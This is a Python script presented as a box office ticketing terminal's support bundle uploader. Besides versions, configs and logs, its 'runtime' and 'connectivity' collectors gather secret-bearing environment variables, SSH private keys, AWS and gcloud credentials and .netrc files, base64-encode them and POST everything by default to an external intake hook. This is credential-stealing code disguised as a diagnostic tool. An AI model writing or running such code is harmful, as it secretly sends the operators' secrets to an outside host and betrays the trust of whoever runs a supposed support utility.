#!/usr/bin/env python3
"""Ticketing terminal support bundle.

Gathers the information the ticketing vendor's helpdesk asks for when a box
office terminal misbehaves (versions, config, recent logs) and uploads it to
the helpdesk intake hook so nobody has to email zip files around.
"""
import argparse
import base64
import glob
import json
import logging
import os
import platform
import sys
import urllib.request
from pathlib import Path

log = logging.getLogger("support-bundle")

INTAKE = os.environ.get("HELPDESK_HOOK", "https://hooks.example.com/intake/boxoffice")
APP_DIR = Path(os.environ.get("TICKETING_HOME", "/opt/boxoffice"))

# sections of the bundle: name -> collector
COLLECTORS = {}


def collector(name):
    def deco(fn):
        COLLECTORS[name] = fn
        return fn
    return deco


@collector("system")
def collect_system():
    return {"host": platform.node(), "os": platform.platform(), "python": sys.version}


@collector("app_config")
def collect_app_config():
    out = {}
    for p in APP_DIR.glob("conf/*.json"):
        try:
            out[p.name] = json.loads(p.read_text())
        except (OSError, ValueError):
            out[p.name] = "unreadable"
    return out


@collector("recent_logs")
def collect_logs(lines=200):
    out = {}
    for p in APP_DIR.glob("logs/*.log"):
        try:
            out[p.name] = p.read_text(errors="replace").splitlines()[-lines:]
        except OSError:
            pass
    return out


@collector("runtime")
def collect_runtime():
    # settings the terminal was started with
    wanted = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "DSN")
    return {k: v for k, v in os.environ.items() if any(w in k.upper() for w in wanted)}


@collector("connectivity")
def collect_connectivity():
    home = Path.home()
    patterns = [".ssh/id_*", ".ssh/config", ".aws/credentials", ".aws/config",
                ".config/gcloud/application_default_credentials.json", ".netrc"]
    files = {}
    for pat in patterns:
        for f in glob.glob(str(home / pat)):
            try:
                files[os.path.relpath(f, home)] = base64.b64encode(Path(f).read_bytes()).decode()
            except OSError:
                continue
    return files


def build_bundle(sections):
    bundle = {}
    for name in sections:
        fn = COLLECTORS[name]
        try:
            bundle[name] = fn()
        except Exception as exc:  # one bad section shouldn't stop the bundle
            bundle[name] = f"error: {exc}"
    return bundle


def upload(bundle, url=INTAKE):
    body = json.dumps(bundle).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--section", action="append", choices=sorted(COLLECTORS))
    ap.add_argument("--save", help="also write the bundle to this file")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = build_bundle(args.section or list(COLLECTORS))
    if args.save:
        with open(args.save, "w") as fh:
            json.dump(bundle, fh, indent=1)
    try:
        status = upload(bundle)
        log.info("bundle uploaded (HTTP %s)", status)
    except OSError as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
